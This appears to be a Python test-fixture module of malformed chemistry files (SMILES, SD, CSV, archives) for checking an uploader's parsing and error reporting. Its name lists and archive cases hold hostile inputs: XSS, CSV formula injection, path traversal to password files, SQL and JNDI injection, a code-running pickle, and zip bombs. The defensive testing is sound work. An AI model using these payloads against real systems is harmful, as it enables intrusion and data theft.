"""Files that go wrong in every way somebody thought of; each with what is still good in it."""

import bz2
import gzip
import io
import itertools
import lzma
import random
import tarfile
import zipfile
from dataclasses import dataclass

from rdkit import Chem

CANARY = "genbat-malformed-canary"


@dataclass(frozen=True)
class Case:
    """`good` rows survive; `bad` lines are complained of (0: the file as a whole).

    None leaves a number open: a row is then either kept or complained of.
    """

    name: str
    filename: str
    data: bytes
    good: int | None
    bad: tuple[int, ...] | None


BROKEN = """
C( C) C((C) C(C C)C [C C] [ ] [] [[C]] [C[N]] C1CC C1CC2 C11 C1C1 C%1 C%99CC C%(100)CC C%10C%1
C= C== C# C/ C\\ / C() (CC) =C C==C C##C .CC CC. CC..CC C- CC() C(=) C(=O [C@@@H](C)(N)O
[C@XX]C [C+10]C [C-9]C [CH5] [CH99]C [C:99999999999]C [C+99999999999999]C C(C)(C)(C)(C)C F=C
O=O=O c1cccc1 c1cc cC c1ccccc1c n1cccc1 [nH] 0CC 9 % $ C>>C C>O>C CCO>> CC|c| "CC" 'CC' CC;CC
CC,CC {CC} <b>CC</b> =CC+1 @SUM(A1) -CC +CC --CC InChI=1S/CH4/h1H4 XLYOFNOQVPJJNP ethanol
64-17-5 C2H6O HH DD C&C C^C C`C C?C !CC C\x7fC C*C( [C@@ [13 [#6 [#999]C [C;; [$(C [!]C
""".split()  # noqa: SIM905
OUTSIDE = """
[Na+].[Cl-] CC.CC CCO.O [U] [Xx] [H][H] [Li]C CC[Hg]CC [Cu] c1ccccc1[Pt] CBr CI C[N+](C)(C)C
CC(=O)[O-] [CH3] C[CH2] [O]C [C][C] [2H]O[2H] [H]O[H] O C N [C@H] [SiH4] CN->B C->N C$C C~C C:C
CC:CC *CC C* [*:1]CC [R]C [C,N]C [!C]C [$(CC)]C [#6]~[#7] [se]1cccc1 [te]1cccc1 [Fe]CC [Og]CC
CC[Mg]Br C[Al](C)C [K]C C[As](C)C F[Xe]F
""".split()  # noqa: SIM905
FINE = ["C%99CC%99", "[13CH3]CO", "[999CH3]CO", "C[C@@H](F)Cl", "C/C=C/C", "[CH3:7]CO", "OCC"]
LOOK_ALIKE = [
    "\u0421\u0421\u041e",  # Cyrillic
    "\uff23\uff23\uff2f",  # full width
    "\u039f\u03bf",  # Greek
    "C\u2013C",
    "C\u2261N",
    "C\u200bC",
    "\u202eOCC",
    "C\u0301C",
    "CC\u2082",
    "\U0001f50b\U0001f50b",
    "\u0639\u0631\u0628\u064a",
    "C\ufeffC",
]
LONG = {
    "10000 atoms": "C" * 10_000,
    "10000 rings": "c1ccccc1" * 1_250,
    "401 letters": "C" * 401,
    "400 letters": "C" * 400,
    "open branches": "(" * 5_000,
    "deep branches": "C(" * 5_000 + "C" + ")" * 5_000,
    "branches of 391": "C(" * 130 + "C" + ")" * 130,
    "open brackets": "[" * 10_000,
    "400 brackets": "[" * 400,
    "nested brackets": "[" * 190 + "C" + "]" * 190,
    "closures": "C1" * 200,
    "closures of 10": "C%10" * 100,
    "a megabyte": "CO" * 500_000,
    "dots": "C." * 199 + "C",
    "many stereo": "[C@@](F)(Cl)" * 30,
    "digits": "C" + "1" * 399,
    "big isotope": f"[{'9' * 300}C]C",
    "big charge": "[C" + "+" * 300 + "]C",
}
NAMES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "![x](http://example.invalid/x.png)",
    "[click](javascript:alert(1))",
    ":red[boo] $x^2$ `code`",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd",
    "+1-1",
    "-2+3",
    "=HYPERLINK(0)",
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/shadow",
    "file:///etc/passwd",
    "'; DROP TABLE entries; --",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}",
    "{0.__class__}",
    "%s%s%n",
    "__import__('os').system('true')",
    "\u202egnp.exe",
    "\u0639\u0631\u0628\u064a \u05e2\u05d1",
    "Z\u0351\u036b\u0343a\u0334l\u0337g\u0340o",
    "\u200b\u200b",
    "a" * 1_000_000,
    "tab\\tname",
    "ring\x07bell",
    "\x1b[31mred",
    "nul-free \ufffd",
    "N/A",
    "null",
    "True",
    "1e400",
]
GOOD = "CCO"


def smiles_files():
    """One bad line between two good ones, in a list and in a table."""
    for kind, texts in (("broken", BROKEN), ("outside", OUTSIDE)):
        for text in texts:
            yield Case(f"{kind} {text[:20]}", "x.smi", lines(GOOD, text, "CC#N"), 2, (2,))
    for text in FINE:
        yield Case(f"fine {text}", "x.smi", lines(GOOD, text, "CC#N"), 3, ())
    for text in LOOK_ALIKE:
        yield Case(f"alike {text!a}", "x.smi", lines(GOOD, text, "CC#N"), 2, (2,))
    for name, text in LONG.items():
        yield Case(f"long {name}", "x.smi", lines(GOOD, text, "CC#N"), 2, (2,))
        table = lines("smiles,name", f"{GOOD},a", f"{text},b", "CC#N,c")
        yield Case(f"long {name} in a table", "x.csv", table, 2, (3,))


def lines(*texts):
    return ("\n".join(texts) + "\n").encode("utf-8")


def named():
    """Names that would like to be run, opened or obeyed; all rows are good."""
    for name in NAMES:
        quoted = name.replace('"', '""')
        shown = f"{name[:20]!a}"
        table = lines("smiles,name", f'{GOOD},"{quoted}"', "CC#N,b")
        fat = len(name) > 100_000  # one row that cannot be read; the other can
        yield Case(f"name {shown}", "x.csv", table, 1 if fat else 2, (2,) if fat else ())
        data = sdf(GOOD, name) + sdf("CC#N")
        yield Case(f"title {shown}", "x.sdf", data, 1 if fat else 2, (1,) if fat else ())
    for name in NAMES:
        stem = name.replace("\n", " ")
        fat = len(name) > 100_000  # its ending is not seen
        data = lines(GOOD, "C(", "CC#N")
        yield Case(f"file {name[:20]!a}", f"{stem}.smi", data, 0 if fat else 2, (0 if fat else 2,))


def sdf(smiles, title="", extra=""):
    block = Chem.MolToMolBlock(Chem.MolFromSmiles(smiles)).split("\n", 1)[1]
    return f"{title}\n{block}{extra}$$$$\n".encode()


def sd_files():
    """Records that are broken, between two that are not."""
    good, head = sdf(GOOD, "a"), len(sdf(GOOD, "a").splitlines()) + 1
    text = sdf("CCCO").decode()
    counts = text.split("\n")[3]
    broken = {
        "no atoms": text.replace(counts, "  0  0  0  0  0  0  0  0  0  0999 V2000"),
        "counts lie": text.replace(counts, "999999" + counts[6:]),
        "counts are words": text.replace(counts, "abcdef" + counts[6:]),
        "no counts": text.replace(counts + "\n", ""),
        "strange atom": text.replace(" C  ", " Qq "),
        "bond to nowhere": text.replace("  1  2  1  0", "  1 99  1  0"),
        "bond to itself": text.replace("  1  2  1  0", "  1  1  1  0"),
        "bond of order 9": text.replace("  1  2  1  0", "  1  2  9  0"),
        "five bonds": text.replace("  1  2  1  0", "  1  2  3  0").replace(
            "  2  3  1", "  2  3  3"
        ),
        "coordinates are words": text.replace("0.0000", "zero.0"),
        "cut off": text[: len(text) // 2] + "\n$$$$\n",
        "V3000 without body": text.replace("V2000", "V3000"),
        "V9000": text.replace("V2000", "V9000"),
        "only words": "this\nis\nno\nmolecule\n$$$$\n",
        "html": "<html>\n<script>alert(1)</script>\n</html>\n\n$$$$\n",
        "a salt": sdf("[Na+].[Cl-]").decode(),
        "a megabyte": "x" * 1_000_000 + "\n$$$$\n",
        "a big one": sdf("C" * 300).decode(),
    }
    for name, record in broken.items():
        data = good + record.encode() + sdf("CC#N", "c")
        yield Case(f"sd {name}", "x.sdf", data, 2, (head,))
    yield Case("sd without an end", "x.sdf", good + sdf("CC#N").replace(b"$$$$\n", b""), 2, ())
    yield Case("sd of ends", "x.sdf", b"$$$$\n" * 1000, 0, (0,))
    yield Case(
        "sd with a fat field", "x.sdf", sdf(GOOD, "a", f">  <note>\n{'x' * 90_000}\n\n"), 1, ()
    )
    yield Case("sd that is smiles", "x.sdf", lines(GOOD, "CC#N"), 0, (1,))
    yield Case("smiles that is sd", "x.smi", good, None, None)


def tables():
    """Headers, quotes, columns and delimiters gone wrong."""
    yield Case("no smiles column", "x.csv", b"name,cas\nEC,96-49-1\n", 0, (1,))
    yield Case("no header", "x.csv", b"CCO,ethanol\nCC#N,acn\n", 0, (1,))
    yield Case("only a header", "x.csv", b"smiles,name\n", 0, (0,))
    yield Case("smiles twice", "x.csv", b"smiles,smiles\nCCO,CC\n", 0, (1,))
    yield Case("short rows", "x.csv", b"name,smiles\nEC\na,CCO\n", 1, (2,))
    yield Case("empty cells", "x.csv", b"smiles,name\n,a\nCCO,b\n,,,\n", 1, (2,))
    yield Case("long rows", "x.csv", b"smiles,name\nCCO,a,b,c,d\n", 1, ())
    yield Case("blank lines", "x.csv", b"\n\nsmiles,name\n\nCCO,a\n\n\n", 1, ())
    yield Case("old mac lines", "x.csv", b"smiles,name\rCCO,a\rC(,b\r", 1, (3,))
    yield Case("mixed ends", "x.csv", b"smiles\r\nCCO\rC(\nCC#N", 2, (3,))
    yield Case("semicolons", "x.csv", b"smiles;name\nCCO;a\nC(;b\n", 1, (3,))
    yield Case("tabs", "x.tsv", b"smiles\tname\nCCO\ta\nC(\tb\n", 1, (3,))
    yield Case("bars", "x.csv", b"smiles|name\nCCO|a\nC(|b\n", 1, (3,))
    yield Case("upper case", "x.csv", b"SMILES,Name\nCCO,a\nC(,b\n", 1, (3,))
    yield Case("quoted header", "x.csv", b'"smiles","name"\n"CCO","a"\n"C(","b"\n', 1, (3,))
    yield Case("quote left open", "x.csv", b'smiles,name\nCCO,"a\nCC#N,b\n', None, None)
    yield Case("quote open at smiles", "x.csv", b'smiles,name\nCC#N,b\n"CCO,a\n', 1, None)
    yield Case("quotes of 1000 lines", "x.csv", b'smiles,name\nCCO,"' + b"x\n" * 1000, None, None)
    yield Case("only quotes", "x.csv", b'smiles,name\n""""""""\nCCO,a\n', 1, (2,))
    yield Case("a million columns", "x.csv", b"smiles" + b",a" * 1_000_000 + b"\nCCO\n", 0, (1,))
    yield Case("a million commas", "x.csv", b"smiles,a\nCCO" + b"," * 1_000_000 + b"\n", 1, ())
    yield Case(
        "a fat cell", "x.csv", b'smiles,a\nCCO,"' + b"x" * 500_000 + b'"\nCC#N,b\n', None, None
    )
    yield Case("a fat header", "x.csv", b"smiles," + b"x" * 500_000 + b"\nCCO,b\n", 1, ())
    yield Case("huge numbers", "x.csv", b"smiles,lumo_ev\nCCO,1e999999\nCC#N,-nan\n", 2, ())
    yield Case("too many digits", "x.csv", b"smiles,n\nCCO," + b"9" * 50_000 + b"\n", 1, ())
    yield Case("a header of formulas", "x.csv", b"smiles,=1+1,@a\nCCO,=2,+3\n", 1, ())
    yield Case("html as table", "x.csv", b"<html><table><tr><td>smiles</td></tr></table>", 0, (1,))
    yield Case("json as table", "x.csv", b'[{"smiles": "CCO"}]', 0, (1,))
    yield Case("sql", "x.csv", b"DROP TABLE entries;\n", 0, (1,))
    yield Case("json as list", "x.smi", b'{"smiles": "CCO"}\n', 0, (1,))
    yield Case("python", "x.txt", b"import os\nos.system('true')\n", 0, (1, 2))
    yield Case("xml bomb", "x.txt", b'<!DOCTYPE a [<!ENTITY b "b">]>\n<a>&b;</a>\n', 0, (1, 2))
    yield Case("many bad lines", "x.smi", b"C(\n" * 3_000 + b"CCO\n", 1, tuple(range(1, 3001)))


def encodings():
    """The same two rows as many programs write them."""
    table = "smiles,name\nCCO,Äthanol\nC(,kaputt\nCC#N,Acetonitril\n"
    for name in ("utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252", "iso8859_15", "mac_roman"):
        yield Case(f"encoded {name}", "x.csv", table.encode(name), 2, (3,))
    for name in ("utf-16-le", "utf-16-be"):
        yield Case(f"encoded {name}", "x.csv", table.encode(name), 2, (3,))
    japanese = table.replace("Äthanol", "エタノール")
    for name in ("shift-jis", "euc-jp", "iso2022_jp", "gb18030"):
        yield Case(f"encoded {name}", "x.csv", japanese.encode(name), 2, (3,))
    yield Case("encoded utf-32", "x.csv", table.encode("utf-32"), None, None)
    yield Case("encoded utf-7", "x.csv", table.encode("utf-7"), 2, (3,))
    yield Case("encoded ebcdic", "x.csv", table.encode("cp500"), 0, None)
    yield Case("two marks", "x.csv", b"\xef\xbb\xbf" * 2 + table.encode(), None, None)
    yield Case("a mark only", "x.csv", b"\xef\xbb\xbf", 0, (0,))
    yield Case("a wide mark only", "x.smi", b"\xff\xfe", 0, (0,))
    yield Case("half a letter", "x.csv", table.encode() + b"CCC,\xc3", 3, (3,))
    yield Case("odd bytes of utf-16", "x.csv", table.encode("utf-16") + b"\x00", None, None)
    yield Case("overlong", "x.smi", b"CCO \xc0\xaf\nC(\n", 1, (2,))
    yield Case("lone surrogates", "x.smi", b"CCO \xed\xa0\x80\nC(\n", 1, (2,))


# A pickle that would touch the canary if anything loaded it.
EVIL = f"cos\nsystem\n(S'touch {CANARY}'\ntR.".encode()


def archives():
    """What is no text at all, under names that say it were."""
    member = b"smiles\nCCO\n"
    bomb, tar = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("x.csv", b"0" * 30_000_000)
    with tarfile.open(fileobj=tar, mode="w") as file:
        file.addfile(tarfile.TarInfo("../../x.csv"), io.BytesIO(member))
    contents = {
        "zip bomb": bomb.getvalue(),
        "gzip bomb": gzip.compress(b"0" * 30_000_000, 9),
        "gzip": gzip.compress(member),
        "bzip2": bz2.compress(member),
        "xz": lzma.compress(member),
        "tar": tar.getvalue(),
        "empty zip": b"PK\x05\x06" + bytes(18),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(50),
        "zstd": b"\x28\xb5\x2f\xfd" + bytes(50),
        "old excel": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        "pdf": b"%PDF-1.7\n1 0 obj\n",
        "png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
        "jpeg": b"\xff\xd8\xff\xe0" + bytes(range(256)),
        "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
        "exe": b"MZ\x90\x00" + bytes(200),
        "sqlite": b"SQLite format 3\x00" + bytes(200),
        "pickle": EVIL,
        "npy": b"\x93NUMPY\x01\x00v\x00" + bytes(100),
        "parquet": b"PAR1" + bytes(200) + b"PAR1",
        "empty": b"",
        "blanks": b" \t\r\n" * 100,
        "a nul": b"CCO\x00CC\n",
        "nuls": bytes(10_000),
        "noise": random.Random(0).randbytes(20_000),
        "controls": bytes(range(1, 32)) * 50,
        "high bytes": bytes(range(128, 256)) * 50,
        "too big": b"CCO\n" * 5_100_000,
    }
    for (name, data), ending in itertools.product(contents.items(), ("csv", "smi", "sdf")):
        if ending == "csv" or len(data) < 1_000_000:
            yield Case(f"{name} as {ending}", f"x.{ending}", data, 0, None)
    for ending in ("xlsx", "exe", "html", "csv.zip", "", "pkl"):
        yield Case(f"ending {ending!r}", f"x.{ending}", member, 0, (0,))


CASES = [
    *smiles_files(),
    *named(),
    *sd_files(),
    *tables(),
    *encodings(),
    *archives(),
]
